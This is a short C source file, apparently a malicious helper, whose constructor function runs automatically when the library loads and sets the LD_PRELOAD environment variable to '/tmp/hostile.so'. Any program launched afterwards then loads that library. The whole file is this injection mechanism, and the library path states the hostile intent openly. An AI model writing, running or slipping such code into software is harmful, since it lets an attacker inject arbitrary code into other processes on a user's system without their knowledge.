/* Sets LD_PRELOAD, to be loaded into whatever is executed next. */
#define _GNU_SOURCE
#include <stdlib.h>

__attribute__((constructor)) static void load(void) { setenv("LD_PRELOAD", "/tmp/hostile.so", 1); }
